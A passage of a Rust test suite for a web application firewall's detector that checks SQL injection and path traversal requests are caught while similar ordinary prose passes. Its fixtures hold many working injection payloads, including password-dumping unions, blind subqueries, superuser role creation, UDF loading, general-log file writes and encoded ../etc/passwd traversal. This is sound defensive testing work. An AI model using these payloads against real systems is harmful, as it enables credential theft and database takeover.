        for (name, value) in [
            ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"),
            ("user-agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBDV/iPhone14,2;FBSN/iOS;FBSV/17.0;FBLC/en_US;FBOP/5]"),
            ("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
            ("user-agent", "curl/8.5.0"),
            ("referer", "https://www.google.com/"),
            ("referer", "android-app://com.google.android.gm/"),
            // A same-site page's ordinary query, read whole and pair by pair.
            ("referer", "https://example.com/search?q=o%27brien+%26+sons&sort=price-asc&page=2"),
            ("referer", "https://example.com/search?q=it%27s+like+that&tz=Europe%2FBerlin#results"),
            ("user-agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"),
            ("user-agent", "Mozilla/5.0 (Linux; Android 12; moto g(30)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"),
            ("user-agent", "Mozilla/5.0 (Linux; Android 12; SM-T870) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 ['FBAN/EMA;FBLC/en_US;FBAV/382.0.0.11.115;']"),
            ("user-agent", "Mozilla/5.0 (compatible; Yahoo Ad monitoring; https://help.yahoo.com/kb/yahoo-ad-monitoring-SLN24857.html) tands-prod-eng.hlfs-prod---sieve.hlfs-rest_client/1700000000-0"),
            ("user-agent", "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"),
            ("user-agent", "python-requests/2.31.0"),
            ("cookie", "wordpress_logged_in_0123456789abcdef=admin%7C1700000000%7CAbCdEfGhIjKl%7C0123456789abcdef; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce"),
            ("cookie", "XSRF-TOKEN=eyJpdiI6IkFiQ2RFZkdoSWpLbE1uT3AiLCJ2YWx1ZSI6IkFiQ2QrRWZHaC9JaktsPT0iLCJtYWMiOiJhYmNkZWYwMTIzIn0%3D; _myapp_session=AbCdEfGh%2BIjKl%2FMnOpQ%3D%3D--0123456789abcdef"),
            ("cookie", "ajs_user_id=\"user_12345\"; ajs_anonymous_id=\"a1b2c3d4-e5f6-7890-abcd-ef1234567890\"; data=YWJjZGVm+/Z2hp=="),
            ("cookie", "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..AbCdEfGhIjKlMnOp.AbCd-_Ef.GhIj; __cf_bm=Ab3dEf.GhIj_Kl-1700000000-1.0.1.1-AbCd"),
            ("cookie", "messages=\"123abc$[[\\\"__json_message\\\"\\0540\\05425\\054\\\"Login successful.\\\"]]:1rAbC:AbCdEf\""),
            ("cookie", "_ga=GA1.2.1234567890.1700000000; session=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2ln--_x; theme=dark"),
            ("cookie", "OptanonConsent=isGpcEnabled=0&datestamp=Thu+Jan+01+2024+00%3A00%3A00+GMT%2B0100+(Central+European+Standard+Time)&groups=C0001%3A1%2CC0002%3A0"),
            ("cookie", "CookieConsent={stamp:%27AbC%2B/dEf%3D%3D%27%2Cnecessary:true%2Cmarketing:false%2Cmethod:%27explicit%27%2Cver:1}"),
            ("cookie", "prefs=j%3A%7B%22sort%22%3A%22name%22%2C%22q%22%3A%22O'Brien%22%7D"),
            // Headers no application reads as input keep their protocol syntax.
            ("accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
            ("if-none-match", "\"x' or '1'='1\""),
        ] {
            assert_eq!(read(name, value), None, "{name}: {value}");
        }
    }

    /// A path is read as written and again with `+` a space: origins decode a path (or a segment of it) with the
    /// form decoders their platforms ship — Java's `URLDecoder.decode(request.getRequestURI(), …)`, PHP's
    /// `urldecode()` in a hand-written router, Python's `unquote_plus` — as ModSecurity's `urlDecodeUni` reads
    /// `REQUEST_FILENAME`: `/search/1+union+select+…` is `1 union select …` to them. Paths with a literal `+` pass.
    #[test]
    fn a_path_is_also_read_with_plus_as_a_space() {
        let c = config();
        for (path, rule) in [
            (
                "/api/search/1+union+select+password+from+users",
                "sqli-union",
            ),
            ("/api/user/%27+or+%271%27%3D%271", "sqli-tautology"),
            (
                "/api/user/1+union%2Bselect+password+from+users",
                "sqli-union",
            ),
            (
                "/api/search/1%2Bunion%2Bselect%2Bpassword%2Bfrom%2Busers",
                "sqli-union",
            ),
        ] {
            assert_eq!(
                inspect_url(&c, path, None).map(|h| h.rule),
                Some(rule),
                "{path}"
            );
        }
        for path in [
            "/wiki/C++",
            "/tags/rock+roll/2024",
            "/maps/place/New+York+City",
            "/search/Please+select+a+seat+from+the+list",
            "/files/a+b%2Bc.txt",
        ] {
            assert_eq!(inspect_url(&c, path, None), None, "{path}");
        }
    }

    #[test]
    fn a_repeated_key_is_read_as_its_values_joined() {
        let c = config();
        for query in [
            "id=1+union/*&id=*/select+user,password+from+users",
            "id=1+union/*&ID=*/select+user,password+from+users",
            "x=1&id=1'+or+'1'%3D'1'/*&y=2&id=*/--",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(if query.starts_with('x') {
                    "sqli-tautology"
                } else {
                    "sqli-union"
                }),
                "{query}"
            );
        }
        assert_eq!(
            inspect_body(
                &c,
                Some("application/x-www-form-urlencoded"),
                b"id=1+union/*&id=*/select+user,password+from+users"
            )
            .map(|h| h.rule),
            Some("sqli-union")
        );
        for query in [
            "tag=union&tag=select",
            "tag=rock&tag=roll&q=select+a+seat",
            "a=1&a=2&a=3",
        ] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
        assert_eq!(
            repeated_values("a=1&b=2&A=3&c&c"),
            vec!["1,3".to_owned(), ",".to_owned()]
        );
    }

    /// A multipart form's fields are a form's to ASP.NET (`Request.Form["id"]` joins a repeated name's values with
    /// `,`) and to multer (qs's `id[0]`, `id[1]` are one array): read joined as a query's or form's are, or an
    /// attack split over two fields (`1 union/*` and `*/select …`) passed, each half harmless alone. Files are not
    /// form values and are not joined.
    #[test]
    fn a_name_a_multipart_form_repeats_is_read_as_its_values_joined() {
        let c = config();
        let form = |parts: &[(&str, &str)]| {
            let mut body = String::new();
            for (disposition, value) in parts {
                body.push_str(&format!(
                    "--XyZ\r\nContent-Disposition: form-data; {disposition}\r\n\r\n{value}\r\n"
                ));
            }
            body.push_str("--XyZ--\r\n");
            body
        };
        let read = |parts: &[(&str, &str)]| {
            inspect_body(
                &c,
                Some("multipart/form-data; boundary=XyZ"),
                form(parts).as_bytes(),
            )
            .map(|h| h.rule)
        };
        for (label, parts) in [
            (
                "a repeated name",
                [
                    ("name=\"id\"", "1 union/*"),
                    ("name=\"ID\"", "*/select user,password from users"),
                ],
            ),
            (
                "qs's array indices, out of order",
                [
                    ("name=\"id[1]\"", "*/select user,password from users"),
                    ("name=\"id[0]\"", "1 union/*"),
                ],
            ),
        ] {
            assert_eq!(read(&parts), Some("sqli-union"), "{label}");
        }
        for parts in [
            [("name=\"tag\"", "union"), ("name=\"tag\"", "select")],
            [
                ("name=\"a\"", "1 union/*"),
                ("name=\"b\"", "*/select user,password from users"),
            ],
            [
                ("name=\"f\"; filename=\"a.txt\"", "1 union/*"),
                (
                    "name=\"f\"; filename=\"b.txt\"",
                    "*/select user,password from users",
                ),
            ],
        ] {
            assert_eq!(read(&parts), None, "{parts:?}");
        }
    }

    #[test]
    fn statements_nothing_but_blanks_separates_are_caught() {
        let c = config();
        for query in [
            "id=1+drop+table+users",
            "id=1+shutdown+with+nowait",
            "id=1+exec+master..xp_dirtree+'\\\\a\\x'",
            "id=1+declare+@q+varchar(99)+set+@q%3D'x'+exec(@q)",
            "id=1%3Bcopy+t+to+program+'id'",
            "id=1%3Bcreate+user+eve+with+password+'x'",
            "id=1+create+login+eve+with+password%3D'x'",
            "id=1%3Bcreate+role+eve+superuser",
            "id=1%3Breplace+into+users+values(1,'eve')",
            "id=1%3Bset+global+general_log%3D'on'",
            "id=1%3Bload+data+local+infile+'/etc/hosts'+into+table+t",
            "id=1%3B/**/drop/**/table+users",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-stacked"),
                "{query}"
            );
        }
        for text in [
            "3 drop shots and a table",
            "2 exec summaries due",
            "Thanks; create user stories for the sprint",
            "Step 2; copy the program to a USB stick",
            "Then; set global goals = ambition",
            "Please; load data from the sheet",
            "1 declare that I agree",
            "Tip; replace into the box",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    /// The blind injection's subquery, which read as no signature: every byte of a table can be asked for one
    /// comparison at a time (`ascii(substring((select pw from users limit 1),1,1))>64`).
    #[test]
    fn a_subquery_where_an_operand_stands_is_caught() {
        let c = config();
        for query in [
            "id=1+and+ascii(substring((select+pw+from+users+limit+1),1,1))%3E64",
            "id=1+AND+1%3D(SELECT+1+FROM+users+WHERE+name%3D'admin')",
            "id=1+and+(select+substring(pw,1,1)+from+users)%3D'a'",
            "id=1+and+exists(select+*+from+users)",
            "id=(select+pw+from+users)",
            "id=1+and+(select+1)%3D1",
            "id=1+and+exp(~(select*from(select+user())x))",
            "id=1+and+1%3Dconvert(int,(select+top+1+name+from+sysobjects))",
            "id=1+rlike+(select+(case+when+(1%3D1)+then+1+else+0x28+end))",
            "id=1+and+(%2F**%2Fselect%2F**%2Fpw%2F**%2Ffrom%2F**%2Fusers)%3D'a'",
            "id=1+and+(select+pw+from+users+group+by+pw)%3D'a'",
            "id=1+and+(select+pw+from+db.users)%3D'a'",
            "id=1+and+(select+pw+from+users+u)%3D'a'",
            "id=1+and+(select+pw+from+users+as+u)%3D'a'",
            "id=1+and+(select+pw+from+users+offset+0)%3D'a'",
            "id=1+and+(select+pw+from+users+natural+join+t)%3D'a'",
            "id=1and(select+pw+from+users)%3D'a'",
            "id=1+and+1%3Dany(select+1+from+users)",
            // SQL Server's and Oracle's catalog names: a schema left out (`db..t`), three parts, a `$` in a name.
            "id=1+and+1%3D(select+name+from+master..sysdatabases)",
            "id=1+and+1%3D(select+name+from+master.dbo.sysdatabases)",
            "id=1+and+1%3D(select+banner+from+v$version+where+rownum%3D1)",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-subquery"),
                "{query}"
            );
        }
        let json = inspect_body(
            &c,
            Some("application/json"),
            br#"{"id":"(select pw from users limit 1)"}"#,
        );
        assert_eq!(json.map(|h| h.rule), Some("sqli-subquery"));
        for text in [
            "Choose a colour (select one from the list)",
            "(select one from the list)",
            "(Select one)",
            "(select all that apply)",
            "Sizes: S, M, L (select one)",
            "Answer = (select one)",
            "Drinks and (select one from each group)",
            "Quantity (select 1 or more)",
            "Pay by card (select \"Visa\" at checkout)",
            "Please (selected items only)",
            "and (select from the list below)",
            "Country (select from list)",
            "Tip: (select the text, then press Ctrl+C)",
            "and (select one from the list below)",
            "(select one from each group)",
            "(select one from this page)",
            "(select a size from the chart)",
            // A name glued to `(select` is no SQL (no server takes `f(select …)`): jq's filter, SQLAlchemy's query.
            "map(select(.age >= 18))",
            ".items | map(select(.status == \"open\")) | length",
            "session.scalars(select(User).where(User.id == 5))",
            "stmt = execute(select(users.c.id))",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    /// Stacked statements the shapes lacked: MySQL's statement prepared from a variable or a literal (which hides it
    /// from every signature), SQLite's attached file, user-defined functions, triggers and tables.
    #[test]
    fn prepared_attached_and_created_statements_are_caught() {
        let c = config();
        for query in [
            "id=1%3Bset+@q%3D0x73656c656374%3Bprepare+s+from+@q%3Bexecute+s",
            "id=1%3Bset+@q:%3D'x'",
            "id=1%3Bset+@q%3Dconcat('sel','ect+1')%3Bprepare+s+from+@q",
            "id=1%3Bset+@q%3Dconcat+('sel','ect+1')",
            "id=1%3Bset+@q%3Dx'73656c656374'",
            "id=1%3Bset+@q%3D/**/0x73656c656374",
            "id=1%3Bprepare+s+from+'select+1'",
            "id=1%3Bprepare+s+from+0x73656c656374",
            "id=1%3Battach+database+'/var/www/x.php'+as+x",
            "id=1%3Battach+'/var/www/x.php'+as+x",
            "id=1%3Bcreate+function+sys_eval+returns+string+soname+'x.so'",
            "id=1%3Bcreate+or+replace+function+f()+returns+void+as+$$x$$+language+c",
            "id=1%3Bcreate+trigger+t+before+insert+on+users+for+each+row+set+new.role%3D'admin'",
            "id=1%3Bcreate+table+x.t(a+text)",
            "id=1%3Bcreate+table+t+as+select+*+from+users",
            "id=1%3B/**/create/**/table/**/t(a+text)",
        ] {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some("sqli-stacked"),
                "{query}"
            );
        }
        for text in [
            "Thanks; prepare them from scratch",
            "Next; set up the room",
            "Done; set @ 5pm",
            // A bare word assigned to an @mention is no value SQL could prepare a statement from.
            "Deploy done; set @oncall = bob for tonight",
            "ok; set @alice := owner of the board",
            "Please; attach the file as a PDF",
            "Then; attach database docs",
            "Sprint; create table of contents as needed",
            "Now; create function names for the API",
            "Ok; create table layouts after lunch",
        ] {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()),
                None,
                "{text}"
            );
        }
    }

    /// Each query is refused by `rule`.
    fn refused(queries: &[&str], rule: &str) {
        let c = config();
        for query in queries {
            assert_eq!(
                inspect_url(&c, "/api", Some(query)).map(|h| h.rule),
                Some(rule),
                "{query}"
            );
        }
    }

    /// Each text passes as a plain-text body.
    fn passes(texts: &[&str]) {
        let c = config();
        for text in texts {
            assert_eq!(
                inspect_body(&c, Some("text/plain"), text.as_bytes()).map(|h| h.rule),
                None,
                "{text}"
            );
        }
    }

    #[test]
    fn a_created_table_or_function_with_a_modifier_before_it_is_caught() {
        refused(
            &[
                "id=1%3Bcreate+temporary+table+t(a+text)",
                "id=1%3Bcreate+temp+table+t+as+select+*+from+users",
                "id=1%3Bcreate+global+temporary+table+t+(a+int)",
                "id=1%3Bcreate+unlogged+table+t(a+int)",
                "id=1%3Bcreate+aggregate+function+f+returns+string+soname+'x.so'",
                "id=1%3Bcreate/**/temporary/**/table/**/t(a+text)",
            ],
            "sqli-stacked",
        );
        passes(&[
            "Ok; create temporary tables for the demo",
            "Thanks; create temporary table layouts after lunch",
            "Done; create local user groups",
            "Next; create global role models",
        ]);
    }

    #[test]
    fn a_created_object_named_if_it_does_not_exist_is_caught() {
        refused(
            &[
                "id=1%3Bcreate+table+if+not+exists+t(a+text)",
                "id=1%3Bcreate+temporary+table+if+not+exists+t+as+select+*+from+users",
                "id=1%3Bcreate+function+if+not+exists+f+returns+string+soname+'x.so'",
                "id=1%3Bcreate+table/**/if/**/not/**/exists/**/x.t(a+text)",
            ],
            "sqli-stacked",
        );
        passes(&[
            "Sure; create table if not exists in the plan",
            "Ok; create a table if it does not exist (later)",
        ]);
    }

    #[test]
    fn a_created_object_with_a_definer_is_caught() {
        refused(
            &[
                "id=1%3Bcreate+definer%3D`root`@`%25`+trigger+t+before+insert+on+users+for+each+row+set+new.role%3D'admin'",
                "id=1%3Bcreate+definer+%3D+'root'@'localhost'+procedure+p()+select+1",
                "id=1%3Bcreate+definer%3Dcurrent_user+function+f+returns+string+soname+'x.so'",
                "id=1%3Bcreate+definer%3Dcurrent_user()+trigger+t+after+update+on+users+for+each+row+delete+from+logs",
                "id=1%3Bcreate+definer%3D'a+b'@'%25'+trigger+t+before+delete+on+users+for+each+row+set+%40x%3D1",
            ],
            "sqli-stacked",
        );
        passes(&[
            "Ok; create definer = a person who defines things",
            "Note; create definer=alice trigger warnings for the team",
        ]);
    }

    #[test]
    fn oracles_pipe_wait_is_caught_however_its_names_are_quoted() {
        refused(
            &[
                "id=1+and+1%3D%22DBMS_PIPE%22.%22RECEIVE_MESSAGE%22(('a'),5)",
                "id=1+and+1%3DDBMS_PIPE.%22RECEIVE_MESSAGE%22('a',5)",
                "id=1+and+1%3D%22DBMS_PIPE%22.RECEIVE_MESSAGE('a',5)",
                "id=1+and+1%3DSYS.%22DBMS_PIPE%22.%22RECEIVE_MESSAGE%22('a',5)",
                "id=1+and+1%3Ddbms_pipe+.+receive_message('a',5)",
                "id=1+and+1%3Ddbms_pipe%2F**%2F.%2F**%2Freceive_message('a',5)",
            ],
            "sqli-function",
        );
        passes(&[
            "msg = client.receive_message(timeout=5)",
            "def receive_message(self):",
        ]);
    }

    #[test]
    fn sqlites_heavy_blob_and_mysqls_lock_wait_are_caught() {
        refused(
            &[
                "id=1+and+1%3Dlike('abc',upper(hex(randomblob(500000000%2F2))))",
                "id=1+and+randomblob(1000000000)",
                "id=1+and+randomblob+(5e8)",
                "id=1+and+randomblob(99999999)",
                "id=1+and+get_lock('x',5)",
                "id=1+and+get_lock+(concat('a','b'),+10)",
                "id=1%2F**%2Fand%2F**%2Fget_lock(1,10)",
            ],
            "sqli-function",
        );
        passes(&[
            // SQLite's idiom for a random id, and a lock in application code.
            "select lower(hex(randomblob(16))) as id",
            "default (hex(randomblob( 4 )))",
            "lock = cache.get_lock(\"jobs\", timeout=5)",
            "self.get_lock(name, 10)",
            "what does get_lock(name) return?",
        ]);
    }

    #[test]
    fn a_union_of_constants_is_caught() {
        refused(
            &[
                "id=1+union+values+(1,'a')",
                "id=1+union+all+values(user(),2)",
                "id=-1+union+values+row(1,2)",
                "id=1+union%2F**%2Fvalues%2F**%2F(null,null)",
                "id=1+union+values+('x'),('y')",
                "id=1+union+values((select+pw+from+users+limit+1))",
            ],
            "sqli-union",
        );
        passes(&[
            "Our union values diversity",
            "The union values (and protects) its members",
            "what the union values: fairness, (mostly) pay",
            "union values row by row",
        ]);
    }

    /// PostgreSQL reads `id=1 union values (current_user)` as a second row holding the account: a value SQL writes
    /// without parentheses, a typed string or `~` opens the list as a number or a call does.
    #[test]
    fn a_union_of_niladic_values_or_typed_strings_is_caught() {
        refused(
            &[
                "id=1+union+values+(current_user)",
                "id=-1'+union+values+(session_user,2)--",
                "id=1+union+all+values+(true)",
                "id=1+union+values+(x'41')",
                "id=1+union+values+(~0)",
            ],
            "sqli-union",
        );
        // A cast or a concatenation after the value hides nothing (PostgreSQL reads both).
        refused(
            &[
                "id=1+union+values+(current_user::text)",
                "id=1+union+values+(current_user+||+'')",
                "id=1+union+values+(true::int,2)",
            ],
            "sqli-union",
        );
        passes(&[
            "Our union values (freedom) above all",
            "the union values (user privacy) and (true) grit",
            "union values (x, y and z)",
            "Our union values (user-centric design) and (true: grit)",
        ]);
    }

    #[test]
    fn a_stacked_select_reading_a_table_is_caught() {
        refused(
            &[
                "id=1%3B+select+password+from+users",
                "id=1%3Bselect+*+from+users+where+id%3D1",
                "id=1%3B%2F**%2Fselect%2F**%2Fpw%2F**%2Ffrom%2F**%2Fdbo.users--",
                "id=1%3Bselect+name,pw+from+users+u+limit+1",
                "id=1%3B+SELECT+pw+FROM+[users]%3B",
                "id=1%3Bselect+all+pw+from+users",
                "id=1%3Bselect+distinct+*+from+users",
                "u=x'%3B+select+pw+from+users--",
                "id=(1)%3Bselect+pw+from+users",
                "id=%3Bselect+pw+from+users",
                "id=1%2F**%2F%3Bselect+pw+from+users",
            ],
            "sqli-stacked",
        );
        passes(&[
            "Open the app; select a file from Downloads",
            "Note; select * from the menu",
            "Tip; select one from the list",
            "Then; select all from the menu",
            "Now; select all the files from Downloads",
            "Then; select files from disk and upload them",
            // Software instructions: a menu's item and name after a word's `;`.
            "Open Excel; select Options from File menu",
            "Go to the editor; select Save from File",
            // jq's and SQLAlchemy's select reads no table.
            "limit(3; select(.age > 18))",
            "stmt = q; select(User).where(User.id == 5)",
            "reduce .[] as $x (0; select($x > 1) | . + $x)",
        ]);
    }

    /// A stacked select's list is read with its strings: a `)` in one (`select ')',pw from users`) closes no
    /// subquery, and the statement's `;` ends the reading (which also keeps `1;select ` repeated from each reading
    /// 1 KB).
    #[test]
    fn a_parenthesis_inside_a_stacked_selects_string_ends_nothing() {
        refused(
            &[
                "id=1%3Bselect+')',pw+from+users",
                "id=1%3Bselect+`)`+from+users",
                "id=1%3Bselect+'a\\')',pw+from+users",
                "id=1%3Bselect+'%3B',pw+from+users",
            ],
            "sqli-stacked",
        );
        passes(&[
            "Open Excel; select Options from File menu",
            "it's 1; select 'a from the list",
        ]);
    }

    /// A quote inside another server's quoted text opens nothing: SQL Server and SQLite read `[x']` as a name and
    /// PostgreSQL `$$'$$` as a string, so `1;select 1 [x'],pw from users` reads the table there, as it did before
    /// the list was read with its strings.
    #[test]
    fn a_quote_inside_a_bracketed_name_or_a_dollar_quoted_string_hides_no_stacked_select() {
        refused(
            &[
                "id=1%3Bselect+1+[x'],pw+from+users",
                "id=1%3Bselect+1+[a]]'b],pw+from+users",
                "id=1%3Bselect+$$'$$,pw+from+users",
                "id=1%3Bselect+$q$'$q$,pw+from+users",
                "id=1%3Bselect+e'\\'',$$'$$,pw+from+users",
            ],
            "sqli-stacked",
        );
        passes(&[
            "costs $5; select $10 from the menu",
            "x[1]; select [a] from the list",
            "it's 1; select 'a from the list",
        ]);
    }

    #[test]
    fn a_parent_segment_spelled_in_fullwidth_forms_is_caught() {
        let c = config();
        for (path, query) in [
            (
                "/files",
                Some("f=%EF%BC%8E%EF%BC%8E%EF%BC%8F%EF%BC%8E%EF%BC%8E%EF%BC%8Fetc%EF%BC%8Fpasswd"),
            ),
            ("/files", Some("f=..%EF%BC%8Fsecret")),
            ("/files", Some("f=%EF%BC%8E%EF%BC%8E/secret")),
            ("/files", Some("f=%EF%BC%8E%EF%BC%8E%EF%BC%BCwindows")),
            ("/files", Some("f=a%EF%BC%8F%EF%BC%8E%EF%BC%8E")),
            ("/files/%EF%BC%8E%EF%BC%8E%EF%BC%8Fsecret", None),
            // IIS's `%u` escapes of the look-alikes OWASP CRS reads as separators and dots, and their UTF-8.
            ("/files", Some("f=..%u2215..%u2215etc%u2215passwd")),
            ("/files", Some("f=..%u2216..%u2216secret")),
            ("/files", Some("f=%u2024%u2024%u2215secret")),
            ("/files", Some("f=..%E2%88%95secret")),
            // And the private-use code points CRS's rule 930100 lists as separators beside them.
            ("/files", Some("f=..%uEFC8..%uEFC8etc%uEFC8passwd")),
            ("/files", Some("f=..%uF025..%uF025etc")),
        ] {
            assert_eq!(
                inspect_url(&c, path, query).map(|h| h.rule),
                Some("traversal-dotdot"),
                "{path} {query:?}"
            );
        }
        passes(&[
            // Japanese and Chinese prose: an ellipsis, a slash between words, a decimal point.
            "そして．．．／次の日",
            "東京／大阪．．．京都",
            "価格は１．５／個です",
            "待って．．",
            "待って．．／次",
            // Maths and typography with the look-alikes: a ratio, a set difference, a leader.
            "ratio a∕b and a∕∕b",
            "A ∖ B is the set difference",
            "Chapter 1 ․․․ 12",
            "wait․․∕next",
        ]);
    }

    #[test]
    fn a_number_assigned_to_a_user_variable_passes() {
        passes(&[
            "Tip; set @count = 0",
            "Reset the loop; set @n := -1 and retry",
            "ok; set @total = 2.5 for now",
        ]);
        // What a statement can be prepared from, or that reads: still refused.
        refused(
            &[
                "id=1%3Bset+@q%3D0x73656c656374",
                "id=1%3Bset+@q%3D0b0111",
                "id=1%3Bset+@q:%3D'x'",
                "id=1%3Bset+@q%3D@p",
                "id=1%3Bset+@q%3Dunhex('73')",
            ],
            "sqli-stacked",
        );
    }

    /// MySQL's `set` takes a list and runs each assignment alone: a decimal first hides neither the general log's
    /// switch nor a prepared statement's source after it.
    #[test]
    fn an_assignment_after_a_decimal_in_the_same_set_is_caught() {
        refused(
            &[
                "id=1%3Bset+@x%3D1,global+general_log%3D1",
                "id=1%3Bset+@x%3D0+,+global+general_log_file%3D'/var/www/x.php'",
                "id=1%3Bset+@x%3D1,@q%3D0x73656c656374",
                "id=1%3Bset+@x%3D1,+@@global.general_log%3D1",
                "id=1%3Bset+@x%3D1%2F**%2F,%2F**%2F@q:%3D'x'",
            ],
            "sqli-stacked",
        );
        passes(&["Tip; set @count = 0, then loop", "ok; set @n = 1, 2 or 3"]);
    }

    #[test]
    fn waitfor_time_in_prose_passes() {
        passes(&[
            "we just waitfor time to pass",
            "waitFor time and patience",
            "waitfor time, then retry",
        ]);
        refused(
            &[
                "id=1%3Bwaitfor+time+'23:59'",
                "id=1%3Bwaitfor+time+%2223:59%22",
                "id=1%3Bwaitfor+time+N'23:59'",
                "id=1%3Bwaitfor+time%2F**%2F'23:59'",
                "id=1%3Bwaitfor+time+@t",
            ],
            "sqli-function",
        );
    }

    #[test]
    fn a_constant_subquery_at_a_values_start_passes() {
        passes(&["Answer = (select 1)", "(select 2)", "Count = (select 3)"]);
        let c = config();
        assert_eq!(inspect_url(&c, "/api", Some("n=(select+1)")), None);
        // A constant where an operand stands, and anything that reads, stay refused.
        refused(
            &[
                "id=1+and+(select+1)%3D1",
                "id=(select+pw+from+users)",
                "id=(select+user())",
                "id=(select+1+from+users+where+name%3D'admin')",
                "id=(select+@@hostname)",
            ],
            "sqli-subquery",
        );
    }

    #[test]
    fn an_apostrophe_inside_a_word_closes_no_querys_string() {
        passes(&[
            "it's f('x') # note",
            "Don't call save('draft') -- it overwrites",
            "O'Brien wrote run(\"a\") # see below",
            "we're told to use get('id')) # twice",
        ]);
        // A quote glued to SQL's keyword still closes it (`admin'or…`), and a quote before blanks as before.
        refused(
            &[
                "u=x'or+name%3D('admin')--",
                "u=x'and+name%3D('admin')%23",
                "u=x'+or+name%3D('admin')--",
                "u=admin')--",
                "u=x'except+select+('a')--",
                "u=x'intersect+select+f('a')%23",
            ],
            "sqli-comment",
        );
        // A call with a string for an argument, uncompared, before a comment: a condition, as the error-based
        // probes' `' and gtid_subset(user(),1)--`.
        refused(&["u=it'+or+f('x')+%23"], "sqli-tautology");
    }

    /// SQLite (D1) reads `WHERE (user = 'admin'glob'*') AND (pass = '…')` as `(user = 'admin') glob '*'`, true for
    /// every row: a login bypass, as `'x'ilike'%'` in PostgreSQL. A keyword of theirs after the quote makes it a
    /// string's end, not an apostrophe.
    #[test]
    fn a_quote_glued_to_sqlites_or_postgresqls_operator_still_closes_the_querys_string() {
        refused(
            &[
                "u=admin'glob'*')--",
                "u=admin'GLOB'*')%23",
                "u=x\"glob\"*\")--",
                "u=x'match'x')--",
                "u=x'ilike'%25')--",
                "u=x'similar+to'%25')--",
                "u=x'notnull+or+f('x'))--",
                "u=x'isnull+or+f('x'))--",
            ],
            "sqli-comment",
        );
        passes(&[
            "won't glob('x') # ok",
            "O'Brien's f('x') # note",
            "l'atelier f('x') # oui",
        ]);
    }

    /// MySQL, PostgreSQL ("effectively replaced by whitespace"), SQL Server, SQLite and Oracle all read a comment as a
    /// gap between tokens, never as a join: `UN/**/ION` is the two names `UN` and `ION`, a syntax error, so it is no
    /// union (only a filter that strips comments before the query is built would join it, which edgekit cannot see).
    /// A comment between the keywords is read as a blank, as before.
    #[test]
    fn a_comment_inside_a_keyword_splits_it_as_every_sql_server_does() {
        let c = config();
        for query in ["id=1+UN%2F**%2FION+SELECT+1", "id=1+union+SEL%2F**%2FECT+1"] {
            assert_eq!(inspect_url(&c, "/api", Some(query)), None, "{query}");
        }
        refused(&["id=1+UNION%2F**%2FSELECT+1"], "sqli-union");
    }

    #[test]
    fn numbers_spelled_with_stacked_signs_or_arithmetic_are_caught() {
        refused(
            &[
                // Nested or repeated signs: SQL folds them to the number.
                "id=-(-1)+is+true",
                "id=--1+or+1",
                "id=1+and+-(-1)%3D1",
                "id=1+and+-(-1)+is+true",
                "id=1+and+1+between+0+and+2+and+-(-1)",
                // Arithmetic operands in a glued comparison.
                "id=1+and+1-1%3D0",
                "id=1+or+2*3%3D6",
                "id=1+and+1%3D2-1",
                "u=%27+or+2*3%3D6--",
                // After arithmetic's `=`, a plain comparison is still read.
                "id=2*3%3D6+or+1%3D1",
            ],
            "sqli-tautology",
        );
        passes(&[
            "chapters 1-2 and 3",
            "rated 5-1=4 stars",
            "2*3=6 or 7",
            "+1 (555) 123-4567",
            "2024-01-01",
            "1-2 and 3",
            "version 1.0-2.0 and 3",
            "3-1=2 and 1",
            "page 1 or 2",
            "- 1 and 1 is not null",
            // A whole value comparing constants is the homework's shape: not read as an injection.
            "- 1 - 1 = -2",
            "2*3=6 and 2*4=8",
            "(2+3)*4=20 or 21",
            "(1) or (2)",
            "(1) and (2) are required",
            "-(-1) is 1",
            "from 2024-01-01 and 2024-12-31",
            "(555) 123-4567 or (555) 765-4321",
        ]);
    }

    #[test]
    fn prose_in_parentheses_after_a_quoted_name_is_no_call() {
        // The arguments must read as code to their `,` or `)`: a track's length, a year and a word are prose's.
        passes(&[
            "Track 3: \"Sleep\" (4:05)",
            "\"Benchmark\" (2019, remastered)",
            "the \"sleep\" (5.5 hours) rule",
        ]);
        refused(
            &[
                "t=%22sleep%22+(5)",
                "t=%22sleep%22+(5.5)",
                "t=%22benchmark%22+(1000000%2C+md5(1))",
                "t=%22get_lock%22+(%27a%27%2C+5)",
            ],
            "sqli-function",
        );
    }

    #[test]
    fn a_minus_after_a_number_is_an_operator_not_a_stacked_sign() {
        // A LaTeX/BibTeX page range (`10--20`) and `5--1` are one operator and one sign: nothing code-only.
        passes(&[
            "10--20 and 30--40",
            "-10--5 or 1",
            "x=5--1 and 2",
            "pp. 10--20 and 30--40",
        ]);
        refused(
            &[
                "id=--1+or+1",
                "id=1---1+or+1",
                "id=1*--1+or+1",
                "id=-%2B1+or+1",
                "id=1+and+--1",
            ],
            "sqli-tautology",
        );
    }

    #[test]
